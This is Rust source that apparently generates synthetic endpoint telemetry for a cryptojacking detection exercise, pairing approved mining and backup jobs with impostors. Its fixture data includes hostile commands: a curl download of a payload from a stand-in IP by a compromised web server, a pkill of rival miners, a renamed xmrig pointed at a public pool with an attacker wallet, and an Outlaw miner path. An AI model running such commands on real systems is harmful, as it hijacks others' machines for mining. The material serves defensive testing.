//! What the endpoint sensors saw: processes, their connections, signatures and mining sessions.

use super::{APPROVED_WALLET, ATTACKER_WALLET, File, lines};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

pub(super) fn files() -> Vec<File> {
    let processes = processes();
    let of = |rows: fn(&Process) -> Option<Value>| lines(&processes.iter().filter_map(rows).collect::<Vec<_>>());
    vec![
        ("defender/DeviceProcessEvents.ndjson", of(|p| Some(p.created()))),
        ("defender/DeviceNetworkEvents.ndjson", of(Process::connection)),
        ("defender/DeviceFileCertificateInfo.ndjson", of(Process::signature)),
        ("sensor/PoolhoundStratum_CL.ndjson", of(Process::session)),
    ]
}

/// One process with its connection. Empty and 0 where there is none.
#[derive(Clone, Default)]
struct Process {
    time: &'static str,
    device: &'static str,
    group: &'static str,
    ip: &'static str,
    account: &'static str,
    path: &'static str,
    sha256: String,
    signer: &'static str,
    command: String,
    parent: &'static str,
    parent_command: &'static str,
    grandparent: &'static str,
    url: &'static str,
    remote: &'static str,
    port: u16,
    /// `ConnectionSuccess` or `ConnectionFailed`.
    action: &'static str,
    /// The login of its mining session.
    login: &'static str,
}

impl Process {
    fn id(&self) -> String {
        digits(&format!("{}{}{}", self.device, self.time, self.path), 12)
    }

    fn sha1(&self) -> String {
        digits(&self.sha256, 40)
    }

    fn name(path: &str) -> &str {
        path.rsplit(['/', '\\']).next().unwrap_or(path)
    }

    fn created(&self) -> Value {
        json!({"TimeGenerated": self.time, "DeviceName": self.device, "MachineGroup": self.group, "ActionType": "ProcessCreated", "AccountName": self.account,
            "FileName": Self::name(self.path), "FolderPath": self.path, "SHA256": self.sha256, "SHA1": self.sha1(), "ProcessId": 4242, "ProcessUniqueId": self.id(),
            "ProcessCommandLine": self.command, "InitiatingProcessFileName": Self::name(self.parent), "InitiatingProcessFolderPath": self.parent,
            "InitiatingProcessCommandLine": self.parent_command, "InitiatingProcessParentFileName": self.grandparent})
    }

    fn connection(&self) -> Option<Value> {
        (self.port != 0).then(|| {
            json!({"TimeGenerated": self.time, "DeviceName": self.device, "MachineGroup": self.group, "ActionType": self.action, "LocalIP": self.ip,
                "LocalPort": 40112, "RemoteUrl": self.url, "RemoteIP": self.remote, "RemotePort": self.port, "Protocol": "Tcp",
                "InitiatingProcessFileName": Self::name(self.path), "InitiatingProcessFolderPath": self.path, "InitiatingProcessSHA256": self.sha256,
                "InitiatingProcessSHA1": self.sha1(), "InitiatingProcessAccountName": self.account, "InitiatingProcessCommandLine": self.command,
                "InitiatingProcessUniqueId": self.id(), "InitiatingProcessParentFileName": Self::name(self.parent)})
        })
    }

    fn signature(&self) -> Option<Value> {
        (!self.signer.is_empty()).then(|| {
            json!({"TimeGenerated": self.time, "DeviceName": self.device, "SHA1": self.sha1(), "IsSigned": true, "IsTrusted": true, "Signer": self.signer})
        })
    }

    fn session(&self) -> Option<Value> {
        (!self.login.is_empty()).then(|| {
            json!({"TimeGenerated": self.time, "Computer": self.device, "SrcIpAddr": self.ip, "DstIpAddr": self.remote, "DstHostname": self.url,
                "DstPortNumber": self.port, "ProcessUniqueId": self.id(), "Protocol": "stratum", "Role": "miner", "Login": self.login, "SharesSubmitted": 31})
        })
    }
}

fn hex(text: &str) -> String {
    digits(text, 64)
}

/// The first `n` hexadecimal digits of the text's hash.
fn digits(text: &str, n: usize) -> String {
    Sha256::digest(text.as_bytes()).iter().flat_map(|byte| format!("{byte:02x}").into_bytes()).take(n).map(char::from).collect()
}

/// The hash of an approved program, as its policy has it.
fn approved(byte: &str) -> String {
    byte.repeat(32)
}

fn processes() -> Vec<Process> {
    let mut all = Vec::new();
    all.extend(taken_over());
    all.extend(everyday());
    for pair in [scheduled_job(), benchmark(), node(), backup(), teaching()] {
        all.extend(pair);
    }
    all.sort_by_key(|p| (p.time, p.device));
    all
}

fn taken_over() -> Vec<Process> {
    let web = Process { device: "web-01", group: "dmz", ip: "10.1.0.21", account: "www-data", ..Process::default() };
    vec![
        Process {
            time: "2026-11-18T02:10:41Z",
            path: "/usr/bin/curl",
            sha256: hex("curl"),
            command: "curl -fsSL http://203.0.113.5/x.tar.gz -o /tmp/.cache/x.tar.gz".to_owned(),
            parent: "/usr/bin/dash",
            parent_command: "sh -c curl -fsSL http://203.0.113.5/x.tar.gz -o /tmp/.cache/x.tar.gz",
            grandparent: "php-fpm8.2",
            ..web.clone()
        },
        Process {
            time: "2026-11-18T02:10:58Z",
            path: "/usr/bin/pkill",
            sha256: hex("pkill"),
            command: "pkill -9 -f kdevtmpfsi|kinsing|minerd".to_owned(),
            parent: "/usr/bin/dash",
            grandparent: "php-fpm8.2",
            ..web.clone()
        },
        Process {
            time: "2026-11-18T02:11:06Z",
            path: "/tmp/.cache/kworkerd",
            sha256: hex("an xmrig that was renamed"),
            command: format!(
                "/tmp/.cache/kworkerd -o gulf.moneroocean.stream:10128 -u {ATTACKER_WALLET} -p web-01 -k --donate-level 0 --cpu-max-threads-hint 75"
            ),
            parent: "/usr/bin/dash",
            grandparent: "php-fpm8.2",
            url: "gulf.moneroocean.stream",
            remote: "203.0.113.66",
            port: 10128,
            action: "ConnectionSuccess",
            login: ATTACKER_WALLET,
            ..web
        },
        Process {
            time: "2026-11-18T09:02:31Z",
            device: "pc-07",
            group: "office",
            ip: "10.1.0.77",
            account: "j.doe",
            path: r"C:\Users\j.doe\Downloads\setup_crack.exe",
            sha256: hex("a cracked installer"),
            command: r#""C:\Users\j.doe\Downloads\setup_crack.exe" /S"#.to_owned(),
            parent: r"C:\Windows\explorer.exe",
            grandparent: "userinit.exe",
            url: "xmr-eu1.nanopool.org",
            remote: "203.0.113.67",
            port: 14444,
            action: "ConnectionFailed",
            ..Process::default()
        },
    ]
}

fn everyday() -> Vec<Process> {
    let mut all = Vec::new();
    for (time, device, path, command) in [
        ("2026-11-18T01:39:58Z", "app-02", "/usr/bin/wget", "wget -q https://www.example.com/health"),
        ("2026-11-18T08:00:00Z", "app-02", "/usr/bin/python3", "python3 -m pytest -p no:cacheprovider -u all"),
        ("2026-11-18T10:14:50Z", "dev-laptop", "/usr/lib/firefox/firefox", "/usr/lib/firefox/firefox"),
        ("2026-11-18T11:30:00Z", "db-01", "/usr/bin/ssh", "ssh -o StrictHostKeyChecking=yes -p 2222 backup@bkp-01"),
    ] {
        all.push(Process {
            time,
            device,
            group: "servers",
            account: "svc",
            path,
            sha256: hex(path),
            command: command.to_owned(),
            parent: "/usr/bin/bash",
            grandparent: "systemd",
            ..Process::default()
        });
    }
    all
}

fn scheduled_job() -> [Process; 2] {
    let approved = Process {
        time: "2026-11-18T02:05:00Z",
        device: "lab-mine01",
        group: "approved-mining",
        account: "svc-minex",
        path: "/opt/minex/bin/minexd",
        sha256: approved("a1"),
        command: "/opt/minex/bin/minexd --config /etc/minex/pool.json".to_owned(),
        parent: "/usr/sbin/cron",
        grandparent: "systemd",
        url: "pool.supportxmr.com",
        port: 3333,
        action: "ConnectionSuccess",
        login: APPROVED_WALLET,
        ..Process::default()
    };
    // The right program in the right hour, but for another wallet.
    let impostor = Process { device: "lab-mine02", login: ATTACKER_WALLET, ..approved.clone() };
    [approved, impostor]
}

fn benchmark() -> [Process; 2] {
    let approved = Process {
        time: "2026-11-14T23:30:00Z",
        device: "perf-03",
        group: "perf-lab",
        account: "root",
        path: "/opt/bench/mining-bench",
        sha256: approved("b2"),
        command: "/opt/bench/mining-bench --bench=10M --offline".to_owned(),
        parent: "/usr/bin/bash",
        grandparent: "sshd",
        ..Process::default()
    };
    // The window is on Saturdays; this is a Monday.
    let impostor = Process { time: "2026-11-16T03:12:00Z", device: "perf-04", ..approved.clone() };
    [approved, impostor]
}

fn node() -> [Process; 2] {
    let approved = Process {
        time: "2026-11-18T02:05:00Z",
        device: "fin-node1",
        group: "wallet-nodes",
        account: "bitcoin",
        path: "/usr/bin/bitcoind",
        sha256: approved("c3"),
        command: "/usr/bin/bitcoind -conf=/etc/bitcoin/bitcoin.conf -daemonwait".to_owned(),
        parent: "/usr/lib/systemd/systemd",
        remote: "203.0.113.9",
        port: 8333,
        action: "ConnectionSuccess",
        ..Process::default()
    };
    // A mining protocol over the port of the peers.
    let impostor = Process { device: "fin-node2", login: "x.1", ..approved.clone() };
    [approved, impostor]
}

fn backup() -> [Process; 2] {
    let approved = Process {
        time: "2026-11-18T01:10:00Z",
        device: "bkp-02",
        group: "backup-servers",
        account: "svc-veeam",
        path: r"C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Manager.exe",
        sha256: approved("d7"),
        signer: "Veeam Software Group GmbH",
        command: r"Veeam.Backup.Manager.exe job=mining-farm-images repo=\\bkp-01\vault".to_owned(),
        parent: r"C:\Windows\System32\services.exe",
        grandparent: "wininit.exe",
        remote: "10.20.0.11",
        port: 2500,
        action: "ConnectionSuccess",
        ..Process::default()
    };
    // The miner of Outlaw, which hides in a folder named as rsync.
    let impostor = Process {
        device: "bkp-03",
        account: "root",
        path: "/tmp/.X25-unix/.rsync/a/kswapd0",
        sha256: hex("the miner of Outlaw"),
        signer: "",
        command: "/tmp/.X25-unix/.rsync/a/kswapd0".to_owned(),
        parent: "/usr/bin/perl",
        grandparent: "systemd",
        remote: "198.51.100.99",
        port: 80,
        login: ATTACKER_WALLET,
        ..approved
    };
    [approved, impostor]
}

fn teaching() -> [Process; 2] {
    let approved = Process {
        time: "2026-11-18T10:00:00Z",
        device: "class-12",
        group: "training-lab",
        account: "student04",
        path: "/opt/course/mining-sim",
        sha256: approved("e5"),
        command: "/opt/course/mining-sim --pool 10.99.0.5:3333".to_owned(),
        parent: "/usr/bin/bash",
        grandparent: "sshd",
        remote: "10.99.0.5",
        port: 3333,
        action: "ConnectionSuccess",
        login: "student04.sim",
        ..Process::default()
    };
    // The course's program, pointed at a pool of the world.
    let impostor = Process {
        device: "class-13",
        account: "student05",
        command: "/opt/course/mining-sim --pool pool.supportxmr.com:3333".to_owned(),
        url: "pool.supportxmr.com",
        remote: "203.0.113.70",
        login: ATTACKER_WALLET,
        ..approved.clone()
    };
    [approved, impostor]
}
